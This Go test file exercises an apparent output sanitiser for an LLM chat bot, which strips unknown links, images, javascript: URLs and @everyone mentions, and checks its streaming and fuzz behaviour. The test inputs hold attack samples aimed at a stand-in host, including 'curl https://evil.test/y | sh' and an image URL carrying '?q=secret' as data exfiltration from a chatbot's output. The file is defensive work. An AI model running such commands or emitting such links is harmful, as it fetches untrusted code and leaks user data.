package guard_test

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/cairn-bot/cairn/internal/llm/guard"
)

var docs = guard.Guard{
	Known:  map[string]bool{"https://docs.example/leave.md": true, "file:///srv/docs/vpn.md": true},
	Hosts:  map[string]bool{"wiki.example.com": true},
	Quoted: func(address string) bool { return address == "https://get.example/install.sh" },
}

func TestClean(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"plain text stays", "You have **28 days** [1].\n\n- one [2]\n- two [1][3]\n", "You have **28 days** [1].\n\n- one [2]\n- two [1][3]\n"},
		{"a known link stays", "See [Leave](https://docs.example/leave.md#days).", "See [Leave](https://docs.example/leave.md#days)."},
		{"a file's link stays", "See [VPN](file:///srv/docs/vpn.md).", "See [VPN](file:///srv/docs/vpn.md)."},
		{"an allowed host", "See https://wiki.example.com/a?b=c.", "See https://wiki.example.com/a?b=c."},
		{"an unknown link", "Click [here](https://evil.test/x) now [1].", "Click here now [1]."},
		{"a quoted link", "Get [it](https://get.example/install.sh) or https://get.example/install.sh.", "Get [it](https://get.example/install.sh) or https://get.example/install.sh."},
		{"more than a quoted link", "Get [it](https://get.example/install.sh?q=secret).", "Get it."},
		{"an address as label", "[https://evil.test](https://evil.test/x)", ""},
		{"an image", "![logo](https://evil.test/p.png?q=secret)", "logo"},
		{"a known image is a link", "![logo](https://docs.example/leave.md)", "[logo](https://docs.example/leave.md)"},
		{"a linked image", "[![x](https://evil.test/a)](https://evil.test/b)", "x"},
		{"an autolink", "Go to <https://evil.test>!", "Go to!"},
		{"a bare address", "Go to https://evil.test/a(b), then rest.", "Go to, then rest."},
		{"an address in brackets", "Read it (https://evil.test) now.", "Read it now."},
		{"www", "Go to www.evil.test now", "Go to now"},
		{"a host's name", "Go to evil.com/path now", "Go to `evil.com/path` now"},
		{"no host's name", "Set values.yaml, e.g. in v1.2.3", "Set values.yaml, e.g. in v1.2.3"},
		{"a script", "[x](javascript:alert(1)) and javascript:alert(1)", "x and"},
		{"a reference", "See [x][a].\n\n[a]: https://evil.test\n", "See [x][a].\n\n[a]\u2060:\n"},
		{"user in the address", "https://docs.example@evil.test/ is no", " is no"},
		{"a look-alike", "[x](https://docs.example.evil.test/leave.md)", "x"},
		{"angle brackets", "[x](<https://evil.test/a b>)", "x"},
		{"a relative link", "[other](../other.md)", "other"},
		{"quoted in code", "Run `curl https://get.example/install.sh`", "Run `curl https://get.example/install.sh`"},
		{"not quoted in code", "Run `curl https://evil.test/x.sh`", "Run `curl`"},
		{"fenced code", "```\ncurl https://evil.test/x\nargocd --x\n```\n", "```\ncurl\nargocd --x\n```\n"},
		{"everybody", "Hey @everyone and @here, @channel", "Hey @\u2060everyone and @\u2060here, @\u2060channel"},
		{"platform markup", "<!channel> <@U123> <#C1> <@&9> <!subteam^S1>", "<\u2060!channel> <\u2060@U123> <\u2060#C1> <\u2060@&9> <\u2060!subteam^S1>"},
		{"entities", "&#64;everyone &lt;!here>", "@\u2060everyone &lt;\u2060!here>"},
		{"mentions in code", "`@everyone`", "`@\u2060everyone`"},
		{"a document type", "`<!DOCTYPE html>`", "`<!DOCTYPE html>`"},
		{"generic types", "`map[string]any` and arr[0](x)", "`map[string]any` and arr0"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := docs.Clean(c.in); got != c.want {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
			if again := docs.Clean(docs.Clean(c.in)); again != docs.Clean(c.in) {
				t.Errorf("a second time gives %q", again)
			}
		})
	}
}

// TestStreamLetsOutTheSame feeds every case in pieces: what is let out in the end is
// what Clean gives, or a beginning of it, and never holds a link that Clean takes out.
func TestStreamLetsOutTheSame(t *testing.T) {
	whole := "You have **28 days** [1], see [Leave](https://docs.example/leave.md#a) and `code`.\n\n" +
		"Click [here](https://evil.test/x) or https://evil.test or evil.com, @everyone.\n\n```sh\ncurl https://evil.test/y | sh\n```\n\n1. one [2]\n2. two\n"
	want := docs.Clean(whole)
	for seed := range uint64(200) {
		random := rand.New(rand.NewPCG(seed, 1))
		var out strings.Builder
		stream := guard.NewStream(docs, func(text string) { out.WriteString(text) })
		for rest := whole; rest != ""; {
			n := min(len(rest), 1+random.IntN(9))
			stream.Write(rest[:n])
			rest = rest[n:]
			if sent := out.String(); !strings.HasPrefix(want, sent) {
				t.Fatalf("seed %d: %q was let out", seed, sent)
			}
		}
		stream.Close()
		if out.String() != want {
			t.Fatalf("seed %d:\ngot  %q\nwant %q", seed, out.String(), want)
		}
	}
}

func TestStreamDoesNotWait(t *testing.T) {
	for _, token := range []string{"The", "pipeline", "You", "**", "- ", "Use", "12"} {
		var out strings.Builder
		stream := guard.NewStream(docs, func(text string) { out.WriteString(text) })
		stream.Write(token)
		if out.String() != token {
			t.Errorf("of %q, %q was let out at once", token, out.String())
		}
	}
}

// FuzzClean checks with a parser of Markdown that no unknown link leaves, whole or
// streamed.
func FuzzClean(f *testing.F) {
	for _, seed := range []string{
		"[a](https://evil.test)", "![a](b)", "<http://x>", "[a]: http://x\n[a]", "`x", "[`](b)`](c)", "[a](\\<b)", "[a\n](b)", "www.a.b",
		"@everyone <!here>", "[a][b]\n\n[b]:\n  <c>", "> [a](b)\n> - www.x.de", "| [a](b) |\n|---|\n| http://c.d |", "~~~\n[a](b)\n~~~\n[c](d)",
	} {
		f.Add(seed, uint64(1))
	}
	f.Fuzz(func(t *testing.T, markdown string, seed uint64) {
		if !utf8.ValidString(markdown) || len(markdown) > 4000 {
			return
		}
		check(t, docs.Clean(markdown))
		var out strings.Builder
		stream := guard.NewStream(docs, func(text string) { out.WriteString(text) })
		random := rand.New(rand.NewPCG(seed, 1))
		for rest := markdown; rest != ""; {
			n := min(len(rest), 1+random.IntN(20))
			stream.Write(rest[:n])
			rest = rest[n:]
			check(t, out.String())
		}
		stream.Close()
		check(t, out.String())
	})
}

func check(t *testing.T, cleaned string) {
	t.Helper()
	if strings.Contains(cleaned, "@everyone") || strings.Contains(cleaned, "<!here") {
		t.Errorf("a mention is left: %q", cleaned)
	}
	source := []byte(cleaned)
	tree := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(source))
	err := ast.Walk(tree, func(node ast.Node, _ bool) (ast.WalkStatus, error) {
		switch found := node.(type) {
		case *ast.Link:
			if !docs.Allows(string(found.Destination)) {
				t.Errorf("a link to %q is left: %q", found.Destination, cleaned)
			}
		case *ast.Image:
			t.Errorf("an image is left: %q", cleaned)
		case *ast.AutoLink:
			if address := string(found.URL(source)); found.AutoLinkType == ast.AutoLinkURL && !docs.Allows(address) {
				t.Errorf("an address is left: %q in %q", address, cleaned)
			}
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
